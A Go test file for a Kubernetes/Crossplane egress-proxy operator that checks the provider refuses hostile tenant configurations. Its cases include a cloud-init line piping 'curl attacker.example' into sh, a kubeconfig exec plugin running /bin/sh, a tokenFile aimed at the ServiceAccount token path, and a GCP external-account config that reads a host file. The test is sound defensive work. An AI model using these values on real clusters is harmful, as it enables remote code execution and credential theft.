package proxy_test

import (
	"context"
	"fmt"
	"net/http"
	"net/http/httptest"
	"os"
	"path/filepath"
	"strings"
	"sync/atomic"
	"testing"
	"time"

	"github.com/crossplane/crossplane-runtime/v2/pkg/logging"
	xpv2 "github.com/crossplane/crossplane/apis/v2/core/v2"
	fnv1 "github.com/crossplane/function-sdk-go/proto/v1"
	"google.golang.org/protobuf/types/known/structpb"
	authzv1 "k8s.io/api/authorization/v1"
	corev1 "k8s.io/api/core/v1"
	rbacv1 "k8s.io/api/rbac/v1"
	metav1 "k8s.io/apimachinery/pkg/apis/meta/v1"
	"k8s.io/apimachinery/pkg/apis/meta/v1/unstructured"
	"k8s.io/apimachinery/pkg/types"
	"k8s.io/client-go/rest"
	"sigs.k8s.io/controller-runtime/pkg/client"
	"sigs.k8s.io/yaml"

	"gitea.home.hrajfrisbee.cz/kacerr/egress-proxies-operator/apis/egress/v1alpha1"
	fleetv1alpha1 "gitea.home.hrajfrisbee.cz/kacerr/egress-proxies-operator/apis/fleet/v1alpha1"
	"gitea.home.hrajfrisbee.cz/kacerr/egress-proxies-operator/internal/backend/gcp/gcpfake"
	"gitea.home.hrajfrisbee.cz/kacerr/egress-proxies-operator/internal/backend/local"
	"gitea.home.hrajfrisbee.cz/kacerr/egress-proxies-operator/internal/controller/proxy"
	"gitea.home.hrajfrisbee.cz/kacerr/egress-proxies-operator/internal/function"
	"gitea.home.hrajfrisbee.cz/kacerr/egress-proxies-operator/internal/ownership"
	"gitea.home.hrajfrisbee.cz/kacerr/egress-proxies-operator/internal/testbed"
)

// TestHostileFleetsRefused plays a fleet author whose ServiceAccount holds
// only a ProxyFleet-editor Role in its namespace. It cannot make pods,
// Proxies, Roles or Secrets itself; so it writes ProxyFleets that ask for
// what the platform's ClusterProviderConfigs do not permit. Each fleet is
// composed by function-proxyfleet, as Crossplane would, and every Proxy it
// composes is refused by the provider with a message naming the field:
// nothing is made, no pod, no VM, no firewall rule.
func TestHostileFleetsRefused(t *testing.T) {
	bed := sharedBed.Env(t)
	ns, podNS := namespace(t), namespace(t)
	fake := gcpfake.Start(t)
	target := testbed.StartEchoTarget(t)
	prov := startGCPProvider(t, fake, target)
	defer prov.stop()
	ctx := context.Background()

	pods, vms := "tenant-pods-"+ns, "tenant-gcp-"+ns
	author := "system:serviceaccount:" + ns + ":fleet-author"
	create(t,
		&corev1.Secret{ObjectMeta: metav1.ObjectMeta{Namespace: ns, Name: "auth", Labels: map[string]string{v1alpha1.LabelProxySecret: "true"}}, StringData: map[string]string{"username": "crawler", "password": password}},
		&v1alpha1.ClusterProviderConfig{ObjectMeta: metav1.ObjectMeta{Name: pods}, Spec: v1alpha1.ProviderConfigSpec{
			Backend:    v1alpha1.BackendKubernetes,
			Kubernetes: &v1alpha1.KubernetesBackend{Namespace: podNS, Credentials: &v1alpha1.KubernetesCredentials{Source: xpv2.CredentialsSourceInjectedIdentity}},
		}},
		&v1alpha1.ClusterProviderConfig{ObjectMeta: metav1.ObjectMeta{Name: vms}, Spec: v1alpha1.ProviderConfigSpec{
			Backend: v1alpha1.BackendGCP,
			GCP:     &v1alpha1.GCPBackend{Project: "crawl-proj", Credentials: v1alpha1.GCPCredentials{Source: xpv2.CredentialsSourceInjectedIdentity}},
		}},
		&rbacv1.Role{ObjectMeta: metav1.ObjectMeta{Namespace: ns, Name: "proxyfleet-editor"}, Rules: []rbacv1.PolicyRule{{
			APIGroups: []string{fleetv1alpha1.Group}, Resources: []string{fleetv1alpha1.ProxyFleetResource},
			Verbs: []string{"get", "list", "watch", "create", "update", "patch", "delete"},
		}}},
		&rbacv1.RoleBinding{ObjectMeta: metav1.ObjectMeta{Namespace: ns, Name: "fleet-author"},
			RoleRef:  rbacv1.RoleRef{APIGroup: rbacv1.GroupName, Kind: "Role", Name: "proxyfleet-editor"},
			Subjects: []rbacv1.Subject{{Kind: rbacv1.ServiceAccountKind, Namespace: ns, Name: "fleet-author"}}},
	)

	// The apiserver's RBAC authorizer learns of the binding through its
	// informers: wait until it is in force.
	testbed.Eventually(t, 10*time.Second, "the author's binding in force", func() (bool, string) {
		sar := &authzv1.SubjectAccessReview{Spec: authzv1.SubjectAccessReviewSpec{User: author, Groups: []string{"system:serviceaccounts"},
			ResourceAttributes: &authzv1.ResourceAttributes{Namespace: ns, Verb: "create", Group: fleetv1alpha1.Group, Resource: fleetv1alpha1.ProxyFleetResource}}}
		if err := bed.Client.Create(ctx, sar); err != nil {
			return false, err.Error()
		}
		return sar.Status.Allowed, sar.Status.Reason
	})
	// By itself the author reaches nothing but fleets.
	for _, a := range []authzv1.ResourceAttributes{
		{Namespace: ns, Verb: "create", Resource: "pods"},
		{Namespace: "kube-system", Verb: "create", Resource: "pods"},
		{Namespace: ns, Verb: "create", Group: "egress.crawl.example.com", Resource: "proxies"},
		{Namespace: ns, Verb: "create", Group: "egress.crawl.example.com", Resource: "providerconfigs"},
		{Namespace: ns, Verb: "create", Group: "rbac.authorization.k8s.io", Resource: "roles"},
		{Namespace: ns, Verb: "get", Resource: "secrets", Name: "auth"},
	} {
		sar := &authzv1.SubjectAccessReview{Spec: authzv1.SubjectAccessReviewSpec{User: author, Groups: []string{"system:serviceaccounts"}, ResourceAttributes: &a}}
		if err := bed.Client.Create(ctx, sar); err != nil {
			t.Fatal(err)
		}
		if sar.Status.Allowed {
			t.Errorf("a fleet author may %s %s in %q", a.Verb, a.Resource, a.Namespace)
		}
	}

	cfg := rest.CopyConfig(bed.Config)
	cfg.Impersonate = rest.ImpersonationConfig{UserName: author, Groups: []string{"system:serviceaccounts", "system:authenticated"}}
	as, err := client.New(cfg, client.Options{Scheme: bed.Scheme})
	if err != nil {
		t.Fatal(err)
	}
	hostile := []struct {
		name, config, placement, want string
	}{
		{"kube-system", pods, `kubernetes: {namespace: kube-system}`, `spec.forProvider.kubernetes.namespace "kube-system"`},
		{"any-image", pods, `kubernetes: {image: "attacker/img:latest"}`, `spec.forProvider.kubernetes.image "attacker/img:latest"`},
		{"any-node", pods, `kubernetes: {nodeSelector: {kubernetes.io/hostname: control-plane-1}}`, `spec.forProvider.kubernetes.nodeSelector "kubernetes.io/hostname"`},
		{"admin-network", vms, `gcp: {network: global/networks/admin}`, `spec.forProvider.gcp.network "global/networks/admin"`},
		{"privileged-tag", vms, `gcp: {networkTags: [allow-ssh]}`, `spec.forProvider.gcp.networkTags "allow-ssh"`},
		{"huge-machine", vms, `gcp: {machineType: n2-highmem-96}`, `spec.forProvider.gcp.machineType "n2-highmem-96"`},
		{"own-image", vms, `gcp: {image: projects/attacker/global/images/backdoor}`, `spec.forProvider.gcp.image`},
		{"own-code", vms, `gcp: {cloudInit: {inline: "#!/bin/sh\ncurl attacker.example | sh"}}`, `spec.forProvider.gcp.cloudInit`},
	}
	fn := function.New(function.Config{Log: logging.NewNopLogger(), Discovery: &types.NamespacedName{}})
	var proxies []types.NamespacedName
	for _, h := range hostile {
		fleet := &unstructured.Unstructured{}
		doc := fmt.Sprintf(`{apiVersion: crawl.example.com/v1alpha1, kind: ProxyFleet, metadata: {name: %s, namespace: %s},
spec: {replicas: 1, zones: [europe-west1-b], providerConfigRef: {kind: ClusterProviderConfig, name: %s}, placement: {%s},
  proxy: {authSecretRef: {name: auth}, allowedSourceRanges: [127.0.0.0/8]}, healthCheck: {url: %q}}}`, h.name, ns, h.config, h.placement, target.URL)
		if err := yaml.Unmarshal([]byte(doc), &fleet.Object); err != nil {
			t.Fatal(err)
		}
		if err := as.Create(ctx, fleet); err != nil {
			t.Fatalf("the fleet author may write fleets: %s: %v", h.name, err)
		}
		// Crossplane runs the function and applies what it composes.
		xr, err := structpb.NewStruct(fleet.Object)
		if err != nil {
			t.Fatal(err)
		}
		rsp, err := fn.RunFunction(ctx, &fnv1.RunFunctionRequest{
			Observed: &fnv1.State{Composite: &fnv1.Resource{Resource: xr}}, RequiredResources: map[string]*fnv1.Resources{"leases": {}},
		})
		if err != nil || len(rsp.GetResults()) != 0 {
			t.Fatalf("%s: %v %v", h.name, err, rsp.GetResults())
		}
		for _, r := range rsp.GetDesired().GetResources() {
			u := &unstructured.Unstructured{Object: r.GetResource().AsMap()}
			if u.GetKind() != v1alpha1.ProxyKind {
				continue
			}
			if err := bed.Client.Create(ctx, u); err != nil {
				t.Fatalf("%s: %v", h.name, err)
			}
			proxies = append(proxies, types.NamespacedName{Namespace: u.GetNamespace(), Name: u.GetName()})
		}
	}
	if len(proxies) != len(hostile) {
		t.Fatalf("want one Proxy per fleet, got %d", len(proxies))
	}
	for i, key := range proxies {
		want := hostile[i].want
		testbed.Eventually(t, 15*time.Second, key.Name+" refused", func() (bool, string) {
			p := get(t, key)
			s, r := p.GetCondition(xpv2.TypeSynced), p.GetCondition(xpv2.TypeReady)
			return s.Status == corev1.ConditionFalse && r.Reason == proxy.ReasonNotPermitted && strings.Contains(s.Message, want),
				fmt.Sprintf("Synced=%s %q; Ready=%s", s.Status, s.Message, r.Reason)
		})
	}
	for _, n := range []string{podNS, "kube-system", ns} {
		l := &corev1.PodList{}
		if err := bed.Client.List(ctx, l, client.InNamespace(n), client.HasLabels{ownership.LabelUID}); err != nil || len(l.Items) != 0 {
			t.Errorf("hostile fleets made pods in %s: %d %v", n, len(l.Items), err)
		}
	}
	if fake.Instances() != 0 || fake.Calls("instances.insert")+fake.Calls("firewalls.insert") != 0 {
		t.Errorf("hostile fleets made VMs or firewall rules: %d VMs, %d inserts", fake.Instances(), fake.Calls("instances.insert")+fake.Calls("firewalls.insert"))
	}
	for _, key := range proxies {
		if err := bed.Client.Delete(ctx, &v1alpha1.Proxy{ObjectMeta: metav1.ObjectMeta{Namespace: key.Namespace, Name: key.Name}}); err != nil {
			t.Fatal(err)
		}
	}
}

// TestTenantConfigCannotBorrowTheProvider: a tenant's namespaced
// ProviderConfig names its own credentials Secret, and through it tries to
// make the provider run a program (a kubeconfig exec plugin), send its own
// ServiceAccount token (tokenFile), or read its files and call a URL of
// the tenant's choosing (a GCP external-account configuration). Each is
// refused before the credentials are used: the program never runs, and
// the tenant's token endpoint is never called. A fleet author's proxy that
// names an unlabelled Secret as credentials is refused too.
func TestTenantConfigCannotBorrowTheProvider(t *testing.T) {
	ns := namespace(t)
	target := testbed.StartEchoTarget(t)
	stateDir := testbed.SquidStateDir(t)
	prov := startProvider(t, stateDir, providerLogs(t), target)
	defer prov.stop()

	marker := filepath.Join(t.TempDir(), "ran")
	var calls, hits atomic.Int32
	tokenURL := httptest.NewServer(http.HandlerFunc(func(w http.ResponseWriter, _ *http.Request) { calls.Add(1); w.WriteHeader(http.StatusTeapot) }))
	defer tokenURL.Close()
	recorder := httptest.NewTLSServer(http.HandlerFunc(func(w http.ResponseWriter, _ *http.Request) { hits.Add(1); w.WriteHeader(http.StatusTeapot) }))
	defer recorder.Close()
	server := "https://127.0.0.1:1"
	kubeconfig := func(user string) string {
		return `apiVersion: v1
kind: Config
clusters: [{name: c, cluster: {server: "` + server + `", insecure-skip-tls-verify: true}}]
contexts: [{name: c, context: {cluster: c, user: u}}]
current-context: c
users: [{name: u, user: ` + user + `}]
`
	}
	configs := map[string]string{}
	server = strings.Replace(recorder.URL, "https://", "http://", 1)
	configs["plainhttp"] = kubeconfig(`{token: tenant-token}`)
	server = recorder.URL
	configs["providerhost"] = kubeconfig(`{token: tenant-token}`)
	server = "https://127.0.0.1:1"
	for name, data := range map[string]string{
		"plainhttp":    configs["plainhttp"],
		"providerhost": configs["providerhost"],
		"exec":         kubeconfig(`{exec: {apiVersion: client.authentication.k8s.io/v1, command: /bin/sh, args: [-c, "touch ` + marker + `"], interactiveMode: Never}}`),
		"tokenfile":    kubeconfig(`{tokenFile: /var/run/secrets/kubernetes.io/serviceaccount/token}`),
		"external": `{"type": "external_account", "audience": "//iam.googleapis.com/x", "subject_token_type": "urn:ietf:params:oauth:token-type:jwt",
			"token_url": "` + tokenURL.URL + `", "credential_source": {"file": "/etc/hostname"}}`,
	} {
		create(t, &corev1.Secret{ObjectMeta: metav1.ObjectMeta{Namespace: ns, Name: name}, StringData: map[string]string{"key": data}})
	}
	secretCreds := func(name string) xpv2.CommonCredentialSelectors {
		return xpv2.CommonCredentialSelectors{SecretRef: &xpv2.SecretKeySelector{SecretReference: xpv2.SecretReference{Name: name, Namespace: ns}, Key: "key"}}
	}
	for _, name := range []string{"exec", "tokenfile", "plainhttp", "providerhost"} {
		create(t, &v1alpha1.ProviderConfig{ObjectMeta: metav1.ObjectMeta{Namespace: ns, Name: name}, Spec: v1alpha1.ProviderConfigSpec{
			Backend: v1alpha1.BackendKubernetes, Kubernetes: &v1alpha1.KubernetesBackend{Credentials: &v1alpha1.KubernetesCredentials{Source: xpv2.CredentialsSourceSecret, CommonCredentialSelectors: secretCreds(name)}},
		}})
	}
	// A Secret without the named key reads as nothing: never the
	// provider's own identity in its place.
	nokey := secretCreds("auth")
	nokey.SecretRef.Key = "no-such-key"
	create(t,
		&v1alpha1.ProviderConfig{ObjectMeta: metav1.ObjectMeta{Namespace: ns, Name: "gcpnokey"}, Spec: v1alpha1.ProviderConfigSpec{
			Backend: v1alpha1.BackendGCP, GCP: &v1alpha1.GCPBackend{Project: "tenant-proj", Credentials: v1alpha1.GCPCredentials{Source: xpv2.CredentialsSourceSecret, CommonCredentialSelectors: nokey}},
		}},
		&v1alpha1.ProviderConfig{ObjectMeta: metav1.ObjectMeta{Namespace: ns, Name: "awsnokey"}, Spec: v1alpha1.ProviderConfigSpec{
			Backend: v1alpha1.BackendAWS, AWS: &v1alpha1.AWSBackend{Region: "us-east-1", Credentials: v1alpha1.AWSCredentials{Source: xpv2.CredentialsSourceSecret, CommonCredentialSelectors: nokey}},
		}},
	)
	create(t,
		&v1alpha1.ProviderConfig{ObjectMeta: metav1.ObjectMeta{Namespace: ns, Name: "external"}, Spec: v1alpha1.ProviderConfigSpec{
			Backend: v1alpha1.BackendGCP, GCP: &v1alpha1.GCPBackend{Project: "tenant-proj", Credentials: v1alpha1.GCPCredentials{Source: xpv2.CredentialsSourceSecret, CommonCredentialSelectors: secretCreds("external")}},
		}},
		&corev1.Secret{ObjectMeta: metav1.ObjectMeta{Namespace: ns, Name: "auth", Labels: map[string]string{v1alpha1.LabelProxySecret: "true"}}, StringData: map[string]string{"username": "crawler", "password": password}},
		&corev1.Secret{ObjectMeta: metav1.ObjectMeta{Namespace: ns, Name: "platform-token"}, StringData: map[string]string{"username": "system", "password": "token-of-another-team"}},
		&v1alpha1.ClusterProviderConfig{ObjectMeta: metav1.ObjectMeta{Name: "tenant-local-" + ns}, Spec: v1alpha1.ProviderConfigSpec{Backend: v1alpha1.BackendLocal}},
	)
	cases := map[string]struct {
		modify func(*v1alpha1.Proxy)
		want   string
	}{
		"exec": {func(p *v1alpha1.Proxy) {
			p.Spec.ProviderConfigReference = &xpv2.ProviderConfigReference{Kind: "ProviderConfig", Name: "exec"}
			p.Spec.ForProvider.Local, p.Spec.ForProvider.Kubernetes = nil, &v1alpha1.KubernetesPlacement{}
		}, "runs an exec plugin"},
		"tokenfile": {func(p *v1alpha1.Proxy) {
			p.Spec.ProviderConfigReference = &xpv2.ProviderConfigReference{Kind: "ProviderConfig", Name: "tokenfile"}
			p.Spec.ForProvider.Local, p.Spec.ForProvider.Kubernetes = nil, &v1alpha1.KubernetesPlacement{}
		}, "names files on the provider's host"},
		"plainhttp": {func(p *v1alpha1.Proxy) {
			p.Spec.ProviderConfigReference = &xpv2.ProviderConfigReference{Kind: "ProviderConfig", Name: "plainhttp"}
			p.Spec.ForProvider.Local, p.Spec.ForProvider.Kubernetes = nil, &v1alpha1.KubernetesPlacement{}
		}, "must be an https URL"},
		"providerhost": {func(p *v1alpha1.Proxy) {
			p.Spec.ProviderConfigReference = &xpv2.ProviderConfigReference{Kind: "ProviderConfig", Name: "providerhost"}
			p.Spec.ForProvider.Local, p.Spec.ForProvider.Kubernetes = nil, &v1alpha1.KubernetesPlacement{}
		}, "may not reach 127.0.0.1"},
		"external": {func(p *v1alpha1.Proxy) {
			p.Spec.ProviderConfigReference = &xpv2.ProviderConfigReference{Kind: "ProviderConfig", Name: "external"}
			p.Spec.ForProvider.Local = nil
			p.Spec.ForProvider.GCP = &v1alpha1.GCPPlacement{Zone: "europe-west1-b"}
			p.Spec.ForProvider.AllowedSourceRanges = []v1alpha1.CIDR{"127.0.0.0/8"}
		}, "credentials"},
		"gcpnokey": {func(p *v1alpha1.Proxy) {
			p.Spec.ProviderConfigReference = &xpv2.ProviderConfigReference{Kind: "ProviderConfig", Name: "gcpnokey"}
			p.Spec.ForProvider.Local = nil
			p.Spec.ForProvider.GCP = &v1alpha1.GCPPlacement{Zone: "europe-west1-b"}
			p.Spec.ForProvider.AllowedSourceRanges = []v1alpha1.CIDR{"127.0.0.0/8"}
		}, `the Secret auth has no key "no-such-key"`},
		"awsnokey": {func(p *v1alpha1.Proxy) {
			p.Spec.ProviderConfigReference = &xpv2.ProviderConfigReference{Kind: "ProviderConfig", Name: "awsnokey"}
			p.Spec.ForProvider.Local = nil
			p.Spec.ForProvider.AWS = &v1alpha1.AWSPlacement{Zone: "us-east-1a"}
			p.Spec.ForProvider.AllowedSourceRanges = []v1alpha1.CIDR{"127.0.0.0/8"}
		}, `the Secret auth has no key "no-such-key"`},
		"unlabelled": {func(p *v1alpha1.Proxy) {
			p.Spec.ProviderConfigReference = &xpv2.ProviderConfigReference{Kind: "ClusterProviderConfig", Name: "tenant-local-" + ns}
			p.Spec.ForProvider.AuthSecretRef = &v1alpha1.AuthSecretReference{Name: "platform-token"}
		}, "is not labelled " + v1alpha1.LabelProxySecret + "=true"},
	}
	for name, tc := range cases {
		p := proxyObject(ns, name, 32470, target.URL)
		tc.modify(p)
		create(t, p)
	}
	for name, tc := range cases {
		testbed.Eventually(t, 15*time.Second, name+" refused", func() (bool, string) {
			s := get(t, types.NamespacedName{Namespace: ns, Name: name}).GetCondition(xpv2.TypeSynced)
			return s.Status == corev1.ConditionFalse && strings.Contains(s.Message, tc.want), fmt.Sprintf("Synced=%s %q", s.Status, s.Message)
		})
	}
	if _, err := os.Stat(marker); err == nil {
		t.Error("the tenant's kubeconfig made the provider run a program")
	}
	if n := hits.Load(); n != 0 {
		t.Errorf("the tenant's kubeconfig made the provider connect to its own host %d times", n)
	}
	if n := calls.Load(); n != 0 {
		t.Errorf("the tenant's credentials made the provider call their token URL %d times", n)
	}
	if pids := local.Processes(stateDir); len(pids) != 0 {
		t.Errorf("a proxy with unlabelled credentials started Squid: %v", pids)
	}
	// Refused Proxies go without trouble: nothing was made for them.
	deleteProxies(t, ns)
}
